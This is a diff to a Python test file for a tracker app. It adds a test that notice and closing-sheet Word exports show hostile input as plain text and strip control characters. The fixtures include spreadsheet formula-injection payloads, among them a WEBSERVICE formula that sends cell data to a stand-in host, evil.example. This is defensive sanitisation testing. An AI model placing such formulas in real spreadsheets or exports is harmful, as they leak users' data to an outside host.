@@ -16,7 +16,7 @@ from sqlmodel import select
 from tracker.inspections.models import Inspection, InspectionUnit
 from tracker.org.models import Unit
 from tracker.safe_text import cell_value, xml_text
-from tracker.tickets.models import Indicator
+from tracker.tickets.models import Indicator, Ticket
 
 WEBSERVICE = '=WEBSERVICE("http://evil.example/?"&B2)'
 HYPERLINK = '=HYPERLINK("http://evil.example","点此")'
@@ -105,3 +105,18 @@ def test_bulletin_answers_with_the_text_clean(client, county, as_user, hostile_r
     text = "\n".join(p.text for p in docx.Document(io.BytesIO(response.data)).paragraphs)
     assert "清理垃圾堆12堆" in text
     assert "\x0b" not in text and "\x1b" not in text
+
+
+def test_notice_and_closing_sheet_answer_with_the_text_clean(
+    client, db, county, as_user, hostile_round
+) -> None:  # type: ignore[no-untyped-def]
+    ticket = db.exec(select(Ticket).where(Ticket.inspection_id == hostile_round.id)).one()
+    as_user(county.inspector)
+    for url in (f"/tickets/{ticket.id}/notice.docx", f"/tickets/{ticket.id}/closing-sheet.docx"):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        document = docx.Document(io.BytesIO(response.data))
+        cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
+        text = "\n".join([p.text for p in document.paragraphs] + cells)
+        assert "=HYPERLINK(" in text  # shown as typed, in a Word file where it is only text
+        assert not any(ch in text for ch in "\x0b\x1b\x0c\x07")
